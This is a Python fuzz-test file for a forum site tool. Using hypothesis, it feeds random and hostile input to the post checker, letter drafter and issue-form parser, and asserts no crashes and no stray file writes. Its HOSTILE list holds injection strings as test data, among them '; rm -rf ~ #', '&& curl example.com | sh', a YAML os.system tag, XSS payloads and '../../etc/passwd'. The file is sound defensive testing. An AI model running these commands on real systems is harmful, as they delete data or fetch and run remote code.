"""Anything may come in: no traceback goes out, and no file is written where none should be.

FORUM_FUZZ=10000 runs as many inputs for each.
"""

import datetime as dt
import json
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from commands import everything_in, forum, make_project
from friday_forum.content.front_matter import parse_front_matter
from friday_forum.content.text_rules import find_text_problems
from friday_forum.editing.new_post import slug_of
from friday_forum.editing.project import read_project
from friday_forum.letters.draft import draft_letter
from friday_forum.letters.files import read_letter
from friday_forum.letters.forms import parse_issue_form
from friday_forum.letters.letter import LetterError
from friday_forum.text.conversion import Dialect
from markup import Shown, converter
from sites import make_post

fuzzed = settings(
    max_examples=int(os.environ.get("FORUM_FUZZ", "60")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)

HOSTILE = [
    "$(touch /tmp/owned)", "`id`", "; rm -rf ~ #", "&& curl example.com | sh", "'\"\\", "${{ github.token }}",
    "---\n", "\n---\ntitle: x\n---\n", "key: [", "- &a *a", "!!python/object:os.system x", "<<: *x", "\t", "question: |\n",
    "<script>alert(1)</script>", "<img src=x onerror=y>", "[x](javascript:y)", "![](http://example.com/x.png)", "{{ x }}{% y %}",
    "../../etc/passwd", "/etc/passwd", "C:\\x", "\x00", "\x1b[31m", "\u202e", "\ufeff", "\ud800", "%0A::error::x", "::set-output name=x::y",
    "### Name to show\n\n", "\n### Your question\n\n", "_No response_", "From: a@example.com\n", "Content-Type: multipart/mixed; boundary=x\n",
    "Content-Type: text/plain; charset=x\n", "=?utf-8?b?//8=?=", "--x\n", "\r\n", "\n\n", "Subject: =?x?q?=?=\n", '{"', '": "', '"}', "[", "terry@example.com ",
    "(555) 010-1234 ", "Terry Miller", "Thanks,\n", "P.S. ", "-- \n", "date: 2026-11-20\n", "draft: yes\n", "topics: [interviews]\n", "a", " ", "\n",
]  # fmt: skip
TEXTS = st.one_of(
    st.text(max_size=200), st.lists(st.sampled_from(HOSTILE), max_size=12).map("".join)
)
RAW = st.one_of(
    st.binary(max_size=300), TEXTS.map(lambda text: text.encode("utf-8", "surrogatepass"))
)
# The operating system hands over no null character, and no half of a surrogate pair.
ARGUMENTS = TEXTS.map(lambda text: text.replace("\0", "").encode("utf-8", "ignore").decode())


@pytest.fixture
def project(tmp_path):
    return make_project(tmp_path / "project")


@fuzzed
@given(
    raw=RAW,
    uri=st.sampled_from(["forum/2026/x.md", "articles/x.md", "authors/x.md", "more.md"]),
    kind=st.sampled_from(["text", "github", "json"]),
)
def test_check_reads_anything_and_writes_nothing(project, raw, uri, kind):
    path = project / "docs" / uri
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(raw)
    before = everything_in(project.parent)
    done = forum(project, "check", "--format", kind)
    assert done.exit_code in {0, 1}
    assert everything_in(project.parent) == before
    path.unlink()


@fuzzed
@given(
    body=TEXTS,
    keys=st.fixed_dictionaries(
        {}, optional=dict.fromkeys(("title", "question", "asker", "description", "source"), TEXTS)
    ),
)
def test_check_reads_any_post(project, body, keys):
    path = project / "docs/forum/2026/x.md"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(make_post(body, **keys).encode("utf-8", "replace"))
    assert forum(project, "check").exit_code in {0, 1}


@fuzzed
@given(
    raw=RAW,
    name=st.sampled_from(["x.txt", "x.eml", "x.json"]),
    output=st.one_of(st.none(), ARGUMENTS),
)
def test_letter_reads_anything_and_writes_only_a_new_post(project, raw, name, output):
    letter = project / name
    letter.write_bytes(raw)
    before = everything_in(project.parent)
    words = ["--output", output] if output and not output.startswith("-") else []
    done = forum(project, "letter", letter, "--author", "dan-metz", *words)
    assert done.exit_code in {0, 1, 2}
    after = everything_in(project.parent)
    assert {path: after[path] for path in before} == before
    for path in after.keys() - before.keys():
        assert Path(path).parts[:3] == ("project", "docs", "forum")
        (project.parent / path).unlink()


@fuzzed
@given(title=TEXTS, name=TEXTS, question=TEXTS)
@example(title="../../x", name="$(id)", question="---\ndate: 1999-01-01\n---\n<script>x</script>")
def test_an_issue_ends_as_harmless_text(project, title, name, question):
    body = f"### Name to show\n\n{name}\n\n### Your question\n\n{question}\n"
    event = json.dumps({"issue": {"title": title, "body": body}}).encode()
    catalog = read_project(project, {}).read()
    date = dt.date(2026, 12, 4)
    try:
        redacted, text = draft_letter(read_letter(event, "x.json"), catalog, date, "dan-metz")
    except LetterError:
        return
    matter, problems = parse_front_matter(text, "x")
    assert problems == ()
    assert set(matter.values) == {
        "title",
        "date",
        "author",
        "asker",
        "question",
        "description",
        "topics",
        "draft",
    }
    assert matter.values["date"] == "2026-12-04"
    assert matter.values["draft"] == "true"
    assert find_text_problems(redacted.question, Dialect()) == ()
    shown = Shown()
    shown.feed(converter().reset().convert(str(matter.values["question"] or "")))
    shown.close()
    assert shown.runs == []
    slug = slug_of(redacted.title, date)
    assert slug.isascii()
    assert slug.replace("-", "").isalnum()


@fuzzed
@given(body=TEXTS)
def test_the_issue_reader_reads_anything(body):
    for label, answer in parse_issue_form(body).items():
        assert answer == answer.strip()
        assert "\n" not in label
